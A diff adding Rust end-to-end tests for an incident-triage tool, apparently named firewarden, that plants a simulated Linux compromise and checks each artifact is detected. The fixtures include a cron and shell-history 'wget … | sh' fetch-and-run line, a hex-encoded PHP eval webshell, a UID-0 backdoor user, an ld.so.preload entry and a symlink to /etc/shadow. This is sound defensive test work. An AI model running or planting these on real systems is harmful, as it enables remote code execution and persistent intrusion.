@@ -1,0 +1,299 @@
+//! End to end: a planted compromise, hostile trees, and the real OpenSSH log from loghub.
+
+mod support;
+
+use firewarden_model::{EventKind, Severity};
+use firewarden_source::FsSource;
+use firewarden_triage::TriageOptions;
+use std::path::Path;
+use support::*;
+
+const ATTACKER: &str = "203.0.113.66";
+
+fn compromised_root() -> tempfile::TempDir {
+    let mut auth = Vec::new();
+    for i in 0..40 {
+        auth.push(format!("Nov 20 03:{:02}:{:02} web01 sshd[{}]: Failed password for {} from {ATTACKER} port {} ssh2", i / 6, (i % 6) * 10, 2000 + i, if i % 2 == 0 { "root" } else { "admin" }, 50000 + i));
+    }
+    auth.push(format!("Nov 20 03:07:12 web01 sshd[2100]: Accepted password for root from {ATTACKER} port 51000 ssh2"));
+    auth.push("Nov 20 03:09:40 web01useradd[2200]: junk line without a proper tag".into());
+    auth.push("Nov 20 03:09:41 web01 useradd[2201]: new user: name=sysadm, UID=0, GID=0, home=/root, shell=/bin/bash, from=/dev/pts/0".into());
+    auth.push(format!("Nov 20 09:00:00 web01 sshd[3000]: Accepted publickey for deploy from 198.51.100.10 port 40000 ssh2: ED25519 SHA256:xyz"));
+    let mut log = auth.join("\n").into_bytes();
+    log.extend_from_slice(b"\n\x00\x00\x01\x02binary junk\xff\xfe in the middle\n");
+    let webshell = unhex("3c3f70687020406576616c28245f504f53545b2778275d293b203f3e");
+    build(vec![
+        file(
+            "/etc/passwd",
+            &format!(
+                "{PASSWD}sysadm:x:0:0::/root:/bin/bash\ndeploy:x:1001:1001::/home/deploy:/bin/bash\n"
+            ),
+        ),
+        file("/etc/hostname", "web01\n"),
+        file(
+            "/etc/cron.d/0anacron-sync",
+            "*/5 * * * * root wget -q -O- http://198.51.100.23/ldr.sh | sh\n",
+        ),
+        file(
+            "/etc/systemd/system/system-update.service",
+            "[Unit]\nDescription=System update\n[Service]\nExecStart=/tmp/.font-unix/sysupdate\nRestart=always\n[Install]\nWantedBy=multi-user.target\n",
+        ),
+        link(
+            "/etc/systemd/system/multi-user.target.wants/system-update.service",
+            "/etc/systemd/system/system-update.service",
+        ),
+        file(
+            "/etc/ld.so.preload",
+            "/usr/lib/x86_64-linux-gnu/libsystem.so\n",
+        ),
+        file(
+            "/root/.ssh/authorized_keys",
+            "ssh-rsa AAAAB3NzaC1yc2EAAAABJQAAAQEArDp4cun2lhr4KUhBGE7VvAcwdli2a8dbnrTOrbMz1+5O73fcBOx8NVbUT0bUanUV9tJ2 mdrfckr\n",
+        ),
+        file(
+            "/var/www/html/wp-content/uploads/2026/11/cache.php",
+            &webshell,
+        ),
+        bytes("/var/log/auth.log", log),
+        file(
+            "/root/.bash_history",
+            "uname -a\ncd /tmp\nwget http://198.51.100.23/x.sh -O - | sh\nhistory -c\n",
+        ),
+        // Hostile bits the run must survive: a symlink out of the root, a loop, a non-UTF-8 name.
+        link("/var/log/evil", "../../../../../../etc/shadow"),
+        link("/home/loop/a", "/home/loop/b"),
+        link("/home/loop/b", "/home/loop/a"),
+        bytes("/tmp/\u{1b}[31mred", b"x".to_vec()),
+    ])
+}
+
+fn ids(r: &firewarden_model::TriageReport) -> Vec<&str> {
+    r.findings.iter().map(|f| f.check.as_str()).collect()
+}
+
+#[test]
+fn planted_compromise_is_reported_under_the_right_checks() {
+    let dir = compromised_root();
+    // A non-UTF-8 name, made here because a &str literal cannot hold one.
+    use std::os::unix::ffi::OsStrExt;
+    std::fs::write(
+        dir.path()
+            .join("tmp")
+            .join(std::ffi::OsStr::from_bytes(b"bad\xffname")),
+        b"x",
+    )
+    .unwrap();
+    let src = FsSource::root(dir.path()).unwrap();
+    let report = firewarden_triage::run(&src, &TriageOptions::default(), &|_| {});
+    let got = ids(&report);
+    for (check, what) in [
+        ("linux.accounts.uid0", "UID-0 backdoor user"),
+        ("linux.persistence.cron", "cron downloader"),
+        ("linux.persistence.systemd", "systemd unit from /tmp"),
+        ("linux.persistence.ld_preload", "ld.so.preload entry"),
+        ("linux.ssh.authorized_keys", "Outlaw mdrfckr key"),
+        ("linux.web.webshell", "PHP webshell"),
+        ("linux.logins.brute_force", "brute force"),
+        (
+            "linux.logins.attacker_login",
+            "success from the brute-forcing IP",
+        ),
+        ("linux.logs.history_commands", "wget | sh in history"),
+    ] {
+        assert!(
+            got.contains(&check),
+            "{what} not reported under {check}; got {got:?}"
+        );
+    }
+    let s = &report.storyline;
+    assert!(s.verdict.contains(ATTACKER), "verdict: {}", s.verdict);
+    assert!(
+        s.entry_point.as_deref().unwrap_or("").contains(ATTACKER),
+        "{s:?}"
+    );
+    assert_eq!(s.attacker_ips.first().map(String::as_str), Some(ATTACKER));
+    assert!(s.accounts.iter().any(|a| a == "root"));
+    assert!(s.accounts.iter().any(|a| a == "sysadm"));
+    assert!(!s.persistence.is_empty());
+    assert!(s.first_activity.is_some() && s.dwell_time.is_some());
+    // The timeline tells the story in order: failed logins, then the attacker's login.
+    let first_fail = report
+        .timeline
+        .iter()
+        .position(|e| e.kind == EventKind::FailedLogin)
+        .expect("failed-login event");
+    let login = report
+        .timeline
+        .iter()
+        .position(|e| e.kind == EventKind::Login && e.ip.as_deref() == Some(ATTACKER))
+        .expect("attacker login event");
+    assert!(first_fail < login);
+    // Hostile input: warnings, not panics; nothing failed.
+    assert!(
+        report
+            .checks
+            .iter()
+            .all(|c| c.status != firewarden_model::CheckStatus::Failed),
+        "{:?}",
+        report.checks
+    );
+    assert!(
+        report
+            .warnings
+            .iter()
+            .any(|w| w.message.contains("binary junk")),
+        "{:?}",
+        report.warnings
+    );
+    // The legitimate key login from another address is not called an attack.
+    assert!(
+        !report
+            .findings
+            .iter()
+            .any(|f| f.severity >= Severity::High && f.title.contains("198.51.100.10"))
+    );
+}
+
+#[test]
+fn analysis_does_not_modify_the_source() {
+    let dir = compromised_root();
+    let snapshot = |root: &Path| {
+        let mut v = Vec::new();
+        let mut stack = vec![root.to_path_buf()];
+        while let Some(d) = stack.pop() {
+            for e in std::fs::read_dir(&d).unwrap() {
+                let e = e.unwrap();
+                let m = std::fs::symlink_metadata(e.path()).unwrap();
+                use std::os::unix::fs::MetadataExt;
+                v.push((e.path(), m.len(), m.mtime(), m.ctime(), m.mode()));
+                if m.is_dir() {
+                    stack.push(e.path());
+                }
+            }
+        }
+        v.sort();
+        v
+    };
+    let before = snapshot(dir.path());
+    let src = FsSource::root(dir.path()).unwrap();
+    let _ = firewarden_triage::run(&src, &TriageOptions::default(), &|_| {});
+    assert_eq!(before, snapshot(dir.path()));
+}
+
+#[test]
+fn loghub_openssh_verdict_is_brute_force_without_success() {
+    let log = Path::new(env!("CARGO_MANIFEST_DIR"))
+        .join("../../../shared/data/loghub/OpenSSH/OpenSSH_2k.log");
+    if !log.exists() {
+        eprintln!(
+            "skipping: {} not present (../shared is absent)",
+            log.display()
+        );
+        return;
+    }
+    let empty = tempfile::tempdir().unwrap();
+    let src = FsSource::root(empty.path()).unwrap();
+    let opts = TriageOptions {
+        only: vec!["linux.logins".into()],
+        auth_logs: vec![log],
+        ..Default::default()
+    };
+    let report = firewarden_triage::run(&src, &opts, &|_| {});
+    assert!(
+        report.storyline.verdict.starts_with(
+            "brute force from 183.62.140.253 and others; no successful login by a brute-forcing IP"
+        ),
+        "verdict: {}",
+        report.storyline.verdict
+    );
+    assert!(
+        !report
+            .findings
+            .iter()
+            .any(|f| f.check == "linux.logins.attacker_login"),
+        "{:?}",
+        report.findings
+    );
+    let top = report
+        .findings
+        .iter()
+        .find(|f| f.check == "linux.logins.brute_force")
+        .unwrap();
+    assert!(
+        top.title.contains("183.62.140.253") && top.title.contains("286"),
+        "{}",
+        top.title
+    );
+    assert_eq!(report.storyline.entry_point, None);
+}
+
+#[test]
+fn loghub_linux_pam_failures_are_counted() {
+    let log = Path::new(env!("CARGO_MANIFEST_DIR"))
+        .join("../../../shared/data/loghub/Linux/Linux_2k.log");
+    if !log.exists() {
+        eprintln!("skipping: shared data not present");
+        return;
+    }
+    let empty = tempfile::tempdir().unwrap();
+    let src = FsSource::root(empty.path()).unwrap();
+    let opts = TriageOptions {
+        only: vec!["linux.logins.brute_force".into()],
+        auth_logs: vec![log],
+        ..Default::default()
+    };
+    let report = firewarden_triage::run(&src, &opts, &|_| {});
+    assert!(!report.findings.is_empty());
+    assert!(
+        report.storyline.verdict.contains("brute force from"),
+        "{}",
+        report.storyline.verdict
+    );
+}
+
+#[test]
+fn mounted_image_without_proc_skips_live_checks_with_a_reason() {
+    let dir = build(vec![file("/etc/passwd", PASSWD)]);
+    let report = firewarden_triage::run(
+        &FsSource::root(dir.path()).unwrap(),
+        &TriageOptions::default(),
+        &|_| {},
+    );
+    let miner = report
+        .checks
+        .iter()
+        .find(|c| c.id == "linux.process.miner")
+        .unwrap();
+    assert_eq!(miner.status, firewarden_model::CheckStatus::Skipped);
+    assert!(
+        miner
+            .reason
+            .as_deref()
+            .unwrap_or("")
+            .contains("no process state")
+    );
+}
+
+#[test]
+fn since_lists_changes_inside_the_window_only() {
+    let dir = build(vec![
+        exe("/usr/bin/new-tool", "#!/bin/sh\n", 0o755),
+        exe("/usr/bin/old-tool", "#!/bin/sh\n", 0o755),
+        Item::Mtime("/usr/bin/old-tool", 1_500_000_000),
+    ]);
+    let src = FsSource::root(dir.path()).unwrap();
+    let since = firewarden_model::Timestamp(firewarden_model::Timestamp::now().0 - 3600);
+    let opts = TriageOptions {
+        only: vec!["linux.files.recent_changes".into()],
+        since: Some(since),
+        ..Default::default()
+    };
+    let report = firewarden_triage::run(&src, &opts, &|_| {});
+    let titles: Vec<&str> = report.findings.iter().map(|f| f.title.as_str()).collect();
+    assert!(
+        titles.iter().any(|t| t.contains("/usr/bin/new-tool")),
+        "{titles:?}"
+    );
+    // old-tool's ctime is now (the test just wrote it) — but its mtime is old; ctime counts as a change.
+    assert!(report.timeline.iter().all(|e| e.time >= since));
+}
